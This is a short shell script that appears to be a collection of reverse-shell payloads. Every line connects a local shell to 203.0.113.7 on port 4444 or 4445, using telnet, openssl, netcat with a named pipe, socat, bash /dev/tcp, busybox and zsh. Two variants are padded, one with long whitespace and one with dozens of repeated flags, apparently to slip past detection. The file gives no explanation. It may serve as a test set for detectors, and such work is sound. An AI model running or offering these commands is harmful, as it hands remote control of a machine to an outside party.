#!/bin/sh
telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445
#---
openssl s_client -quiet -connect 203.0.113.7:4444 | /bin/sh | openssl s_client -quiet -connect 203.0.113.7:4445
#---
sh -i 2>&1 | nc 203.0.113.7 4444
#---
rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f
#---
socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.7:4444
#---
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
#---
bash -i >& /dev/tcp/203.0.113.7/4444                                                                                                                                                                                                           0>&1
#---
nc 203.0.113.7 4444 -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -v -e /bin/sh
#---
busybox nc 203.0.113.7 4444 -e sh
#---
zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'
